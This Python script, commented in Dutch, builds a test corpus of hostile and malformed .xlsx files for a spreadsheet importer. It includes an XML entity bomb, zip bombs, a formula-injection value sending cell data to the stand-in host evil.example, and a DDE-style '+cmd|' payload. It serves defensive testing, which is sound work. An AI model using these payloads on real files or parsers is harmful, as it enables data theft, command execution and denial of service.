"""Maak een corpus vijandige en kapotte invulbestanden voor de importer.

Gebruik::

    python scripts/maak_vijandige_bestanden.py MAP

Elk geval is een bestand met een categorie (onbetrouwbare werkmappen, formule-injectie, validatie,
lijst; zie ``docs/onderzoek.md`` en ``docs/grenzen.md``), of uit de regel dat wat gelezen wordt is wat
Excel toont (dubbele tabbladen, rijen en cellen, ruwe getallen als ``4_0``, hoogte of breedte 0,
verhullende getalnotaties, onbekende compressie), en de plaats die de melding moet noemen
(``Blad!Cel``, een tabblad, of de bestandsnaam bij problemen op zip-niveau). Verwacht gedrag voor elk
bestand: een ``InvoerFout`` met Nederlandse meldingen, geen crash, geen uitvoer, binnen seconden en met
beperkt geheugen. De tests (``tests/test_onderzoek_vijandig.py``) bouwen het corpus met
:func:`maak_corpus` in een tijdelijke map.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import io
import os
import random
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from maak_synthetische_studie import maak_opgave, schrijf_ingevuld

from kostprijs.onderzoek.sjabloon import schrijf_sjabloon

BLAD_XML = {"Aanbieder": "xl/worksheets/sheet3.xml", "Locatie 1": "xl/worksheets/sheet4.xml"}
"""Waar openpyxl de bladen opslaat (volgorde van het sjabloon)."""
MARKER = 123456.789


@dataclass(frozen=True)
class Geval:
    """Eén vijandig bestand: naam, categorie en de plaats die in een melding moet staan."""

    bestand: str
    categorie: str
    plaats: str


def _herschrijf(bron: Path, doel: Path, wijzig: Callable[[str, bytes], bytes] | None = None,
                extra: dict[str, bytes] | None = None) -> None:
    """Kopieer een zip en pas onderdelen aan of voeg ze toe."""
    with zipfile.ZipFile(bron) as zin, zipfile.ZipFile(doel, "w", zipfile.ZIP_DEFLATED) as zuit:
        for info in zin.infolist():
            data = zin.read(info)
            zuit.writestr(info.filename, wijzig(info.filename, data) if wijzig else data)
        for naam, data in (extra or {}).items():
            zuit.writestr(naam, data)


def _vervang(onderdeel: str, patroon: str, door: str) -> Callable[[str, bytes], bytes]:
    def wijzig(naam: str, data: bytes) -> bytes:
        if naam != onderdeel:
            return data
        nieuw, aantal = re.subn(patroon.encode(), door.encode(), data)
        if aantal == 0:
            raise RuntimeError(f"patroon {patroon!r} niet gevonden in {naam}")
        return nieuw
    return wijzig


BOM_DTD = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{"&lol" + str(i - 1) + ";" if i > 1 else "&lol;"}' * 10 + '">'
                     for i in range(1, 10))
           + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


def _cel(blad: str, cel: str, waarde: Any, datatype: str | None = None) -> Callable[[Any], None]:
    def bewerk(wb: Any) -> None:
        wb[blad][cel] = waarde
        if datatype:
            wb[blad][cel].data_type = datatype
    return bewerk


def _zip_gevallen(goed: Path, map_: Path) -> list[Geval]:
    """Gevallen op bestands- en zipniveau (§2.1, §2.2, §6)."""
    gevallen = []

    def maak(naam: str, categorie: str, schrijf: Callable[[Path], None]) -> None:
        schrijf(map_ / naam)
        gevallen.append(Geval(naam, categorie, naam))

    maak("zipbom.xlsx", "zipbom", lambda p: _herschrijf(goed, p, extra={"xl/vulling.xml": b" " * (30 * 2**20)}))
    maak("xml_bom.xlsx", "XML-bom (DTD/entiteiten)",
         lambda p: _herschrijf(goed, p, _vervang(BLAD_XML["Locatie 1"], r"^.*$", BOM_DTD.replace("\\", ""))))
    maak("xml_bom_utf16.xlsx", "XML-bom in UTF-16 (langs de bytescan; defusedxml stopt hem)",
         lambda p: _herschrijf(goed, p, lambda n, d: BOM_DTD.replace('"1.0"?', '"1.0" encoding="UTF-16"?')
                               .encode("utf-16") if n == "xl/workbook.xml" else d))
    maak("macro.xlsx", "macro (vbaProject.bin)",
         lambda p: _herschrijf(goed, p, extra={"xl/vbaProject.bin": b"\0" * 64}))
    maak("macro_inhoudstype.xlsx", "macro (inhoudstype .xlsm)", lambda p: _herschrijf(
        goed, p, _vervang("[Content_Types].xml", "spreadsheetml.sheet.main",
                          "ms-excel.sheet.macroEnabled.main")))
    maak("externe_koppeling.xlsx", "externe koppeling", lambda p: _herschrijf(
        goed, p, extra={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}))
    maak("versleuteld.xlsx", "versleuteld (OLE/CFB)", lambda p: p.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1024))
    maak("oud_formaat.xlsx", ".xls vermomd als .xlsx", lambda p: p.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\0" * 1024))
    maak("afgekapt.xlsx", "afgekapt zip-archief",
         lambda p: p.write_bytes(goed.read_bytes()[: goed.stat().st_size * 6 // 10]))
    maak("geen_zip.xlsx", "CSV met .xlsx-extensie", lambda p: p.write_text("naam;plaatsen\nHuize;4\n"))
    maak("te_veel_onderdelen.xlsx", "te veel onderdelen", lambda p: _herschrijf(
        goed, p, extra={f"xl/leeg/{i}.txt": b"" for i in range(400)}))
    maak("te_groot.xlsx", "te groot bestand",
         lambda p: p.write_bytes(b"PK\x03\x04" + random.Random(1).randbytes(11 * 2**20)))
    maak("groot_onderdeel.xlsx", "te groot onderdeel (slecht comprimeerbaar)", lambda p: _herschrijf(
        goed, p, extra={"xl/groot.xml": base64.b64encode(random.Random(2).randbytes(4 * 2**20))}))
    maak("kapotte_xml.xlsx", "ongeldige XML in een blad", lambda p: _herschrijf(
        goed, p, lambda n, d: d[: len(d) // 2] if n == BLAD_XML["Locatie 1"] else d))
    return gevallen


def zet_compressie(pad: Path, methode: int) -> None:
    """Zet de compressiemethode van het eerste onderdeel op ``methode`` (99 = AES, onbekend voor zipfile)."""
    data = bytearray(pad.read_bytes())
    lokaal, centraal = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    data[lokaal + 8:lokaal + 10] = methode.to_bytes(2, "little")
    data[centraal + 10:centraal + 12] = methode.to_bytes(2, "little")
    pad.write_bytes(bytes(data))


def beschadig_inhoud(pad: Path, onderdeel: str) -> None:
    """Overschrijf de gecomprimeerde bytes van ``onderdeel`` (de inhoudsopgave blijft geldig)."""
    with zipfile.ZipFile(pad) as zf:
        info = zf.getinfo(onderdeel)
    data = bytearray(pad.read_bytes())
    begin = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[begin:begin + min(64, info.compress_size)] = b"\xff" * min(64, info.compress_size)
    pad.write_bytes(bytes(data))


L1 = BLAD_XML["Locatie 1"]
RIJ5 = r'<row r="5">.*?</row>'


def _wat_excel_toont_gevallen(goed: Path, map_: Path) -> list[Geval]:
    """Gevallen waar openpyxl iets anders zou lezen dan Excel toont (ruwe XML), en zip-varianten (issue 13)."""
    gevallen = []

    def maak(naam: str, categorie: str, plaats: str, schrijf: Callable[[Path], None]) -> None:
        schrijf(map_ / naam)
        gevallen.append(Geval(naam, categorie, plaats))

    def xml(onderdeel: str, patroon: str, door: str) -> Callable[[Path], None]:
        return lambda p: _herschrijf(goed, p, _vervang(onderdeel, patroon, door))

    tabel: list[tuple[str, str, str, str, str, str]] = [
        ("verborgen_dubbel_tabblad.xlsx", "veryHidden tabblad met dezelfde naam vóór het zichtbare", "Locatie 1",
         "xl/workbook.xml", r'<sheet name="Locatie 1"',
         '<sheet name="Locatie 1" sheetId="99" state="veryHidden" r:id="rId5" /><sheet name="Locatie 1"'),
        ("tabbladnaam_hoofdletters.xlsx", "tabbladnaam die alleen in hoofdletters verschilt", "Locatie 1",
         "xl/workbook.xml", r'<sheet name="Locatie 1"',
         '<sheet name="LOCATIE 1" sheetId="99" state="hidden" r:id="rId5" /><sheet name="Locatie 1"'),
        ("getal_met_underscore.xlsx", "ruw getal 4_0 (Python leest 40)", "Locatie 1!C5", L1,
         r'(<c r="C5"[^>]*>)<v>\d+</v>', r"\1<v>4_0</v>"),
        ("arabische_cijfers.xlsx", "ruw getal met niet-Latijnse cijfers", "Locatie 1!C5", L1,
         r'(<c r="C5"[^>]*>)<v>\d+</v>', "\\1<v>\u0664</v>"),
        ("getal_met_spatie_ruw.xlsx", "ruw getal met spaties", "Locatie 1!C5", L1,
         r'(<c r="C5"[^>]*>)<v>\d+</v>', r"\1<v> 4 </v>"),
        ("enorm_geheel_getal.xlsx", "geheel getal van 400 cijfers", "Locatie 1!C5", L1,
         r'(<c r="C5"[^>]*>)<v>\d+</v>', r"\1<v>" + "9" * 400 + "</v>"),
        ("onbekend_celtype.xlsx", "onbekend celtype", "Locatie 1!C5", L1, r'<c r="C5" s="(\d+)" t="n">',
         r'<c r="C5" s="\1" t="x">'),
        ("dubbele_rij.xlsx", "rij twee keer (Excel toont de eerste)", "Locatie 1!A5", L1, f"({RIJ5})",
         r'\1<row r="5"><c r="C5" t="n"><v>40</v></c></row>'),
        ("dubbele_cel.xlsx", "cel twee keer in een rij (openpyxl neemt de laatste)", "Locatie 1!C5", L1,
         r'(<c r="C5"[^>]*><v>\d+</v></c>)', r'\1<c r="C5" t="n"><v>40</v></c>'),
        ("rijen_niet_op_volgorde.xlsx", "rij 5 na rij 40 (openpyxl slaat haar over)", "Locatie 1!A5", L1,
         f"({RIJ5})(.*?)(</sheetData>)", r"\2\1\3"),
        ("cel_buiten_rij.xlsx", "cel C6 in rij 5", "Locatie 1!C6", L1, r'<c r="C5"', '<c r="C6"'),
        ("rij_zonder_nummer.xlsx", "rij zonder rijnummer", "Locatie 1", L1, r'<row r="5">', "<row>"),
        ("rij_hoogte_nul.xlsx", "waarde in een rij van hoogte 0", "Locatie 1!C29", L1, r'<row r="29"',
         '<row r="29" ht="0" customHeight="1"'),
        ("kolom_breedte_nul.xlsx", "invoer in een kolom van breedte 0", "Locatie 1!C:C", L1,
         r'<col width="[0-9.]+" (customWidth="1" min="3" max="3" />)', r'<col width="0" \1'),
        ("rijen_standaard_verborgen.xlsx", "standaardrijhoogte 0 (zeroHeight)", "Locatie 1", L1,
         r"<sheetFormatPr ", '<sheetFormatPr zeroHeight="1" '),
        ("samenvoeging_zonder_ref.xlsx", "<mergeCell/> zonder ref", "Locatie 1", L1, r"</sheetData>",
         '</sheetData><mergeCells count="1"><mergeCell /></mergeCells>'),
        ("excel_escape_in_naam.xlsx", "Excel-code _x000B_ in een naam", "Aanbieder!C4", BLAD_XML["Aanbieder"],
         r"<t>Zorgaanbieder", "<t>Zorg_x000B_aanbieder"),
        ("regelscheider_in_naam.xlsx", "U+2028 in een naam", "Aanbieder!C4", BLAD_XML["Aanbieder"],
         r"<t>Zorgaanbieder", "<t>Zorg\u2028aanbieder"),
    ]
    for naam, categorie, plaats, onderdeel, patroon, door in tabel:
        maak(naam, categorie, plaats, xml(onderdeel, patroon, door))
    maak("macro_kleine_letters.xlsx", "macro (xl/vbaproject.bin, kleine letters)", "macro_kleine_letters.xlsx",
         lambda p: _herschrijf(goed, p, extra={"xl/vbaproject.bin": b"\0" * 64}))
    maak("macrobladen.xlsx", "Excel 4-macroblad (xl/macrosheets/)", "macrobladen.xlsx",
         lambda p: _herschrijf(goed, p, extra={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}))
    maak("onbekende_compressie.xlsx", "onbekende compressiemethode (99)", "onbekende_compressie.xlsx",
         lambda p: (_herschrijf(goed, p), zet_compressie(p, 99)))
    maak("beschadigde_compressie.xlsx", "beschadigde deflate-gegevens", "beschadigde_compressie.xlsx",
         lambda p: (_herschrijf(goed, p), beschadig_inhoud(p, "xl/workbook.xml")))
    return gevallen


def _cel_gevallen(sjabloon: Path, opgave: dict[str, Any], map_: Path) -> list[Geval]:
    """Gevallen op celniveau (§2.1, §3, §5, §6)."""
    def verberg_rij(wb: Any) -> None:
        wb["Locatie 1"].row_dimensions[29].hidden = True

    def extra_blad(wb: Any) -> None:
        wb.create_sheet("Geheim").sheet_state = "veryHidden"

    def te_veel_etmalen(wb: Any) -> None:
        wb["Locatie 1"]["C6"] = wb["Locatie 1"]["C5"].value * 365 + 1
        wb["Locatie 1"]["C7"] = None

    def geen_bezetting(wb: Any) -> None:
        for blad in ("Locatie 1", "Locatie 2", "Locatie 3"):
            if wb[blad]["C5"].value is not None:
                wb[blad]["C6"], wb[blad]["C7"], wb[blad]["C8"] = 0, None, None

    def notatie(cel: str, opmaak: str) -> Callable[[Any], None]:
        def bewerk(wb: Any) -> None:
            wb["Locatie 1"][cel].number_format = opmaak
        return bewerk

    tabel: list[tuple[str, str, str, Callable[[Any], None]]] = [
        ("formule_met_vervalste_uitkomst.xlsx", "formule met vervalste opgeslagen uitkomst", "Locatie 1!C5",
         _cel("Locatie 1", "C5", "=2*2")),
        ("excel_foutwaarde.xlsx", "Excel-foutwaarde", "Locatie 1!C29", _cel("Locatie 1", "C29", "#DIV/0!")),
        ("nederlands_getal_als_tekst.xlsx", "gelokaliseerd getal als tekst", "Locatie 1!C34",
         _cel("Locatie 1", "C34", "€ 1.234,56")),
        ("getal_met_spaties.xlsx", "getal als tekst met spaties", "Locatie 1!C5", _cel("Locatie 1", "C5", " 4 ")),
        ("percentage_als_geheel.xlsx", "percentage als heel getal", "Locatie 1!C24", _cel("Locatie 1", "C24", 8)),
        ("lege_verplichte_cel.xlsx", "lege verplichte cel", "Locatie 1!C5", _cel("Locatie 1", "C5", None)),
        ("niet_eindig.xlsx", "niet-eindig getal (1E999)", "Locatie 1!C35", _cel("Locatie 1", "C35", MARKER)),
        ("nederlandse_booleaanse.xlsx", "Nederlandse booleaanse tekst", "Aanbieder!C8",
         _cel("Aanbieder", "C8", "WAAR")),
        ("samengevoegde_cellen.xlsx", "samengevoegde cellen", "Locatie 1!C5:D6",
         lambda wb: wb["Locatie 1"].merge_cells("C5:D6")),
        ("verborgen_rij.xlsx", "verborgen rij met invoer", "Locatie 1!C29", verberg_rij),
        ("verborgen_tabblad.xlsx", "extra zeer verborgen tabblad", "Geheim", extra_blad),
        ("grote_verouderde_dimensie.xlsx", "vervalste enorme dimensie", "Locatie 1!C5", _cel("Locatie 1", "C5", -3)),
        ("kleine_verouderde_dimensie.xlsx", "verouderde kleine dimensie (rijen erachter)", "Locatie 1!C44",
         _cel("Locatie 1", "C44", 3)),
        ("injectie_in_naam.xlsx", "formule-injectie in een naam", "Aanbieder!C4",
         _cel("Aanbieder", "C4", '=HYPERLINK("http://evil.example/?x="&C5,"Klik")', "s")),
        ("injectie_plus.xlsx", "formule-injectie met +", "Locatie 1!C4", _cel("Locatie 1", "C4", "+cmd|'/c calc'!A0")),
        ("stuurtekens_in_naam.xlsx", "richtingsteken (bidi) in een naam", "Locatie 1!C4",
         _cel("Locatie 1", "C4", "Huize \u202eNOOZ")),
        ("te_lange_naam.xlsx", "tekst van 40.000 tekens", "Aanbieder!C4", _cel("Aanbieder", "C4", "x" * 40_000)),
        ("buiten_bereik.xlsx", "negatief bedrag", "Locatie 1!C27", _cel("Locatie 1", "C27", -5000)),
        ("datum_in_getalcel.xlsx", "datum in een getalcel", "Locatie 1!C25",
         _cel("Locatie 1", "C25", dt.datetime(2025, 1, 1))),
        ("tegenstrijdig.xlsx", "samenhang: meer etmalen dan capaciteit", "Locatie 1!C6", te_veel_etmalen),
        ("ongeldige_keuze.xlsx", "keuze buiten de lijst", "Aanbieder!C7", _cel("Aanbieder", "C7", 53)),
        ("verkeerde_versie.xlsx", "ander sjabloon (versie)", "Instructie!B2",
         _cel("Instructie", "B2", "kostprijs-sjabloon-kwv v0")),
        ("geen_bezette_etmalen.xlsx", "plausibiliteit: 0 bezette etmalen", "Locatie 1!C6", geen_bezetting),
        ("notatie_verbergt.xlsx", "getalnotatie ;;; verbergt de waarde", "Locatie 1!C29", notatie("C29", ";;;")),
        ("notatie_duizendtallen.xlsx", "getalnotatie #,##0, toont een duizendste", "Locatie 1!C34",
         notatie("C34", "#,##0,")),
        ("notatie_vaste_cijfers.xlsx", "getalnotatie toont vaste cijfers", "Locatie 1!C5", notatie("C5", '"4"')),
        ("naam_alleen_spaties.xlsx", "naam van alleen niet-afbreekbare spaties", "Locatie 1!C4",
         _cel("Locatie 1", "C4", "\u00a0\u00a0\u3000")),
    ]
    nabewerking = {
        "formule_met_vervalste_uitkomst.xlsx": _vervang(BLAD_XML["Locatie 1"], r"<f>2\*2</f><v\s*/?>(</v>)?",
                                                        "<f>2*2</f><v>999</v>"),
        "niet_eindig.xlsx": _vervang(BLAD_XML["Locatie 1"], r"<v>123456\.789</v>", "<v>1E999</v>"),
        "grote_verouderde_dimensie.xlsx": _vervang(BLAD_XML["Locatie 1"], r'<dimension ref="[^"]*"\s*/>',
                                                   '<dimension ref="A1:XFD1048576"/>'),
        "kleine_verouderde_dimensie.xlsx": _vervang(BLAD_XML["Locatie 1"], r'<dimension ref="[^"]*"\s*/>',
                                                    '<dimension ref="A1:B2"/>'),
    }
    gevallen = []
    for naam, categorie, plaats, bewerk in tabel:
        doel = map_ / naam
        schrijf_ingevuld(sjabloon, doel, opgave, bewerk)
        if naam in nabewerking:
            tmp = doel.with_suffix(".tmp")
            _herschrijf(doel, tmp, nabewerking[naam])
            os.replace(tmp, doel)
        gevallen.append(Geval(naam, categorie, plaats))
    return gevallen


def maak_corpus(map_: Path, zaad: int = 7) -> list[Geval]:
    """Schrijf het vijandige corpus naar ``map_`` en geef de gevallen met hun verwachte plaats."""
    map_.mkdir(parents=True, exist_ok=True)
    werk = map_ / ".werk"
    werk.mkdir(exist_ok=True)
    sjabloon = schrijf_sjabloon(werk / "sjabloon.xlsx")
    opgave, _ = maak_opgave(random.Random(zaad), 0)
    goed = schrijf_ingevuld(sjabloon, werk / "goed.xlsx", opgave)
    gevallen = _zip_gevallen(goed, map_) + _wat_excel_toont_gevallen(goed, map_) + _cel_gevallen(sjabloon, opgave, map_)
    for p in werk.iterdir():
        p.unlink()
    werk.rmdir()
    return gevallen


def main() -> None:
    """Opdrachtregel."""
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("map", type=Path)
    a = p.parse_args()
    gevallen = maak_corpus(a.map)
    uit = io.StringIO()
    for g in gevallen:
        uit.write(f"{g.bestand:40s} {g.categorie:55s} {g.plaats}\n")
    print(uit.getvalue() + f"{len(gevallen)} bestanden geschreven in {a.map}")


if __name__ == "__main__":
    main()
